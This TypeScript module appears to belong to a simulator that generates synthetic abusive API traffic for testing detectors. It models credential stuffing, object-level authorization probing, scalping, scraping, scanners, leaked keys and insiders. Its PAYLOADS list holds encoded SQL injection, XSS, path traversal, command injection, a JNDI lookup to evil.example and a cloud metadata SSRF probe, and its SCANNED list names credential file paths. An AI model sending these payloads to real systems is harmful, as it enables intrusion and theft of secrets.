import { BATCH_PARTNERS, batchKey } from '../machines.ts';
import { DAY, HOUR } from '../plan.ts';
import type { Random } from '../random.ts';
import { mix } from '../random.ts';
import type { Tactics } from './bot.ts';
import { methodProbing, slowPoisoning } from './probing.ts';
import { type MakeScript, ownAccount, shot } from './script.ts';

/** Stuffing tries breached pairs (hits 0.1 to 2 %, as reported by operators); spraying few passwords on known names. */
function guessing(hitRate: [number, number], knownShare: number): MakeScript {
  return (world, random) => {
    const hits = random.logBetween(...hitRate);
    const refusal = random.weighted([
      [401, 8],
      [403, 1],
      [400, 1],
    ] as const);
    return {
      cover: random.chance(0.3),
      shoot(_bot, _n, now) {
        const known = random.chance(knownShare);
        const index = known ? random.int(world.site.users) : world.site.users * 2 + random.int(50_000_000);
        const hit = known && random.chance(hits);
        if (hit && !world.victims.has(index)) world.victims.set(index, now);
        const subject = world.site.subject(index);
        return shot(world.plan.spec.roles.signin, { status: hit ? 0 : refusal, subject });
      },
    };
  };
}

const takeover: MakeScript = (world, random) => {
  const loot = world.plan.spec.roles.loot;
  const perVictim = 6 + random.int(14);
  let victim = 0;
  let step = 0;
  return {
    cover: false,
    shoot(bot, _n, now) {
      if (step === 0) {
        const consumers = world.settlement.groups.find((group) => group.spec.signedIn > 0 && !group.spec.anyone);
        victim = (consumers?.first ?? 0) + random.int(consumers?.members ?? world.site.users);
        world.victims.set(victim, Math.min(now, world.victims.get(victim) ?? now));
        bot.caller.user = '';
      }
      step = (step + 1) % perVictim;
      if (step === 1) return shot(world.plan.spec.roles.signin, { subject: world.site.subject(victim), index: victim });
      bot.caller.user = world.site.userId(victim);
      const name = loot[
        Math.min(loot.length - 1, Math.floor((step / perVictim) * loot.length + random.int(2)))
      ] as string;
      const status = random.chance(0.05) ? 422 : 0;
      return shot(name, { index: victim + world.site.users * random.int(2), status });
    },
  };
};

const bola: MakeScript = (world, random) => {
  const target = random.pick(world.plan.spec.roles.objects);
  const order = random.pick(['walk', 'walk', 'stride', 'random'] as const);
  const guarded = random.chance(0.5);
  const refusal = random.pick([403, 404]);
  let index = random.int(world.site.users * 4);
  return {
    cover: random.chance(0.4),
    shoot(bot) {
      ownAccount(world, random, bot);
      index = order === 'walk' ? index + 1 : order === 'stride' ? index + 1 + random.int(4) : random.int(100_000_000);
      const exists = order !== 'random' || random.chance(0.08);
      const status = !exists ? 404 : guarded && random.chance(0.97) ? refusal : random.chance(0.02) ? 404 : 0;
      return shot(target, { index: exists ? index : 500_000_000 + index, status });
    },
  };
};

const bfla: MakeScript = (world, random) => ({
  cover: random.chance(0.5),
  shoot(bot) {
    ownAccount(world, random, bot);
    const [method, path] = random.pick(world.plan.spec.admin);
    const id = world.site.id(Object.keys(world.plan.spec.pools)[0] as string, random.int(world.site.users));
    const status = random.weighted([
      [403, 6],
      [404, 3],
      [401, 1],
      [405, 0.7],
      [200, 0.5],
    ] as const);
    return shot('', { method, path: world.plan.prefix + path.replace('/1', `/${id}`), status });
  },
});

/** Gift cards, vouchers, promotion and claim codes; coupons on a cart; one-time codes for one account. */
const enumeration: MakeScript = (world, random) => {
  const { roles, routes } = world.plan.spec;
  const target = random.weighted([
    ['otp', 4],
    ['code', 4],
    ['coupon', routes.coupon ? 3 : 0],
  ] as const);
  const subject = world.site.subject(random.int(world.site.users));
  const cart = random.int(50_000_000);
  return {
    cover: random.chance(0.3),
    shoot(bot) {
      if (target === 'otp') return shot(roles.otp, { status: random.chance(0.003) ? 0 : 401, subject });
      if (random.chance(0.5)) ownAccount(world, random, bot);
      if (target === 'coupon') return shot('coupon', { status: random.chance(0.02) ? 0 : 422, index: cart });
      return shot(roles.code, { status: random.chance(0.006) ? 0 : 404, index: random.int(2_000_000_000) });
    },
  };
};

const signup: MakeScript = (world, random) => ({
  cover: random.chance(0.3),
  shoot(bot, n) {
    const { roles } = world.plan.spec;
    if (n % 3 === 0) {
      bot.caller.user = '';
      return shot(roles.signup, { status: random.chance(0.06) ? 409 : 0 });
    }
    bot.caller.user = world.site.userId(world.site.users * 3 + Math.floor(n / 3) + (mix(bot.seed, 4) % 100_000) * 1000);
    return shot(n % 3 === 1 ? roles.home : roles.code, { index: random.int(2_000_000_000), status: 0 });
  },
});

const scalping: MakeScript = (world, random) => {
  const scarce = world.plan.spec.roles.scarce;
  const thing = random.int(8);
  return {
    cover: false,
    shoot(bot, n) {
      ownAccount(world, random, bot);
      // Watches the first route of the flow and runs through the rest when it is there.
      const late = n % 14;
      const name = late < 11 ? scarce[0] : scarce[Math.min(scarce.length - 1, late - 10)];
      return shot(name as string, { index: thing, status: late >= 11 && random.chance(0.3) ? 409 : 0 });
    },
  };
};

const scraping: MakeScript = (world, random) => {
  const { roles } = world.plan.spec;
  let index = random.int(3000);
  const ordered = random.chance(0.6);
  return {
    cover: random.chance(0.3),
    shoot() {
      if (random.chance(0.12)) return shot(roles.list, { index: random.int(500) });
      index = ordered ? index + 1 : random.int(10_000_000);
      return shot(roles.item, { index, status: random.chance(0.02) ? 404 : 0 });
    },
  };
};

const searchFlood: MakeScript = (world, random) => ({
  tactics: { pace: 'fast' },
  cover: false,
  shoot: () => shot(world.plan.spec.roles.search, { status: random.chance(0.05) ? 503 : 0, index: random.int(500) }),
});

const SCANNED = [
  '/.env /.git/config /wp-login.php /wp-admin/setup-config.php /phpmyadmin/index.php /actuator/env /actuator/heapdump',
  '/server-status /.aws/credentials /config.json /swagger.json /openapi.json /v2/api-docs /graphql /graphiql /console',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci /boaform/admin/formLogin /solr/admin/info/system',
  '/backup.zip /db.sql /.DS_Store /api/v1/pods /manager/html /HNAP1 /owa/auth/logon.aspx /debug/default/view /info.php',
]
  .join(' ')
  .split(' ');
const PAYLOADS = [
  'q=1%27%20OR%20%271%27%3D%271',
  'q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--',
  'id=1%3BSELECT%20pg_sleep(5)--',
  'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  'file=..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  'cmd=%3Bcat%20%2Fetc%2Fpasswd',
  'name=%7B%7B7*7%7D%7D',
  'x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
  'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F',
];

const scanner: MakeScript = (world, random) => {
  const payloadShare = random.pick([0.1, 0.5, 0.9]);
  return {
    cover: false,
    shoot(bot, n) {
      if (n === 0 || bot.shots <= 1) Object.assign(bot.caller, world.agents.scanner(mix(bot.seed, 6)));
      const host = random.int(world.plan.spec.hosts.length);
      if (random.chance(payloadShare)) {
        const route = world.plan.spec.routes[random.pick(Object.keys(world.plan.spec.routes))];
        const path = `${world.plan.prefix}${(route?.path ?? '/').replace(/\{\w+\}/g, String(1 + random.int(99)))}`;
        const status = random.weighted([
          [400, 4],
          [404, 2],
          [401, 2],
          [200, 1.5],
          [500, 0.5],
        ] as const);
        return shot('', { path, host, query: random.pick(PAYLOADS), status });
      }
      return shot('', { path: random.pick(SCANNED), host, status: random.chance(0.93) ? 404 : 403 });
    },
  };
};

/** A partner's key in strange hands: another place, other software, other routes. */
const leakedKey: MakeScript = (world, random) => {
  const key = batchKey(random.int(BATCH_PARTNERS));
  const { roles } = world.plan.spec;
  const names = [...roles.objects, roles.list, roles.item];
  let index = random.int(world.site.users);
  return {
    tactics: { imitates: false, proof: 'plain', sources: random.pick(['one', 'few', 'many'] as const) },
    cover: false,
    shoot(bot) {
      bot.caller.apiClient = key;
      bot.caller.platform = 'server';
      index += 1 + random.int(3);
      return shot(random.pick(names), { index, status: random.chance(0.08) ? 403 : 0 });
    },
  };
};

/** The same deeds with a proof that is broken, stolen, or true: what changes is what it shows. */
function withProof(proof: Tactics['proof'], deeds: readonly MakeScript[], more: Partial<Tactics> = {}): MakeScript {
  return (world, random) => {
    const script = random.pick(deeds)(world, random);
    return { ...script, tactics: { ...script.tactics, imitates: true, proof, ...more } };
  };
}

/** A member of staff who reads far more than the job asks for. */
const insider: MakeScript = (world, random) => {
  const staff = world.settlement.groups.find((group) => group.spec.anyone && !group.spec.partner);
  const index = (staff?.first ?? 0) + random.int(staff?.members ?? 1);
  const target = random.pick(world.plan.spec.roles.objects);
  return {
    insider: index,
    tactics: { sources: 'one', imitates: true, proof: 'plain' },
    cover: false,
    begin: (now) => world.victims.set(index, now),
    shoot: () => shot(target, { index: random.int(10_000_000) }),
  };
};

const stuffing = guessing([0.001, 0.02], 0.3);
const spraying = guessing([0.001, 0.01], 0.95);

/** Asks for password resets of account after account: mails to strangers, and who exists. */
const resetFlood: MakeScript = (world, random) => ({
  cover: random.chance(0.2),
  shoot: () => shot('reset', { subject: world.site.subject(random.int(world.site.users * 2)) }),
});

/** Guesses refresh tokens, or tries stolen ones that have expired. */
const refreshGuessing: MakeScript = (world, random) => ({
  cover: false,
  shoot: () => shot(world.plan.spec.roles.refresh, { status: random.chance(0.004) ? 0 : 401 }),
});

/** Holds what is scarce without ever buying it: the middle of the flow, again and again. */
const hoarding: MakeScript = (world, random) => {
  const scarce = world.plan.spec.roles.scarce;
  const hold = scarce[Math.max(0, scarce.length - 2)] as string;
  return {
    cover: random.chance(0.4),
    shoot(bot) {
      ownAccount(world, random, bot);
      return shot(hold, { index: random.int(40), status: random.chance(0.1) ? 409 : 0 });
    },
  };
};

/** Every kind of attack: its script, the usual requests of an instance (assumed), its share among attacks, and how likely each is slow, spread out, imitating. */
export const ATTACKS: Readonly<
  Record<string, { make: MakeScript; size: number; weight: number; slow: number; many: number; imitates: number }>
> = {
  'credential-stuffing': { make: stuffing, size: 500, weight: 1.6, slow: 0.3, many: 0.5, imitates: 0.5 },
  'password-spraying': { make: spraying, size: 250, weight: 1, slow: 0.6, many: 0.5, imitates: 0.5 },
  takeover: { make: takeover, size: 60, weight: 0.6, slow: 0.7, many: 0.5, imitates: 0.7 },
  bola: { make: bola, size: 200, weight: 1.2, slow: 0.4, many: 0.25, imitates: 0.5 },
  bfla: { make: bfla, size: 80, weight: 0.6, slow: 0.5, many: 0.2, imitates: 0.5 },
  enumeration: { make: enumeration, size: 250, weight: 1, slow: 0.4, many: 0.4, imitates: 0.5 },
  'fake-signups': { make: signup, size: 150, weight: 0.8, slow: 0.5, many: 0.6, imitates: 0.6 },
  scalping: { make: scalping, size: 250, weight: 0.9, slow: 0.2, many: 0.4, imitates: 0.6 },
  scraping: { make: scraping, size: 500, weight: 1.6, slow: 0.4, many: 0.5, imitates: 0.5 },
  'search-flood': { make: searchFlood, size: 500, weight: 0.8, slow: 0, many: 0.4, imitates: 0.4 },
  scanner: { make: scanner, size: 250, weight: 1, slow: 0.4, many: 0.2, imitates: 0 },
  'leaked-key': { make: leakedKey, size: 200, weight: 0.8, slow: 0.4, many: 0.2, imitates: 0 },
  'repackaged-app': {
    make: withProof('failed', [stuffing, scraping, bola, enumeration]),
    size: 200,
    weight: 0.9,
    slow: 0.4,
    many: 0.5,
    imitates: 1,
  },
  'token-replay': {
    make: withProof('replayed', [stuffing, scraping, enumeration], { sources: 'many' }),
    size: 250,
    weight: 0.9,
    slow: 0.3,
    many: 1,
    imitates: 1,
  },
  'device-farm': {
    make: withProof('genuine', [scalping, signup, scraping, enumeration], { sources: 'few' }),
    size: 200,
    weight: 0.9,
    slow: 0.4,
    many: 0,
    imitates: 1,
  },
  'method-probing': { make: methodProbing, size: 80, weight: 0.5, slow: 0.5, many: 0.2, imitates: 0.4 },
  'slow-poisoning': { make: slowPoisoning, size: 150, weight: 0.4, slow: 1, many: 0, imitates: 1 },
  insider: { make: insider, size: 150, weight: 0.6, slow: 0.5, many: 0, imitates: 1 },
};

/** Kinds that no world for tuning or choosing has: worlds with `FIRST_UNSEEN_SEED` and above have them too. */
export const UNSEEN_ATTACKS: typeof ATTACKS = {
  'reset-flood': { make: resetFlood, size: 250, weight: 0.8, slow: 0.4, many: 0.5, imitates: 0.5 },
  'refresh-guessing': { make: refreshGuessing, size: 250, weight: 0.8, slow: 0.4, many: 0.5, imitates: 0.5 },
  hoarding: { make: hoarding, size: 250, weight: 0.8, slow: 0.4, many: 0.4, imitates: 0.7 },
};
export const FIRST_UNSEEN_SEED = 1_000;

/** Milliseconds between two shots of one instance. */
export function drawGap(random: Random, tactics: Tactics, budget: number, left: number): number {
  // A wave that is over within a minute or two would be too small to be worth its while.
  if (tactics.pace === 'fast')
    return Math.max(
      1000 / random.logBetween(0.7, tactics.sources === 'many' ? 40 : 15),
      random.logBetween(60_000, 300_000) / budget,
    );
  const slowest = Math.min((left * 0.9) / budget, 8 * 60_000);
  return Math.max(2000, Math.min(slowest, random.logBetween(8_000, Math.min(DAY / 8, 4 * HOUR))));
}
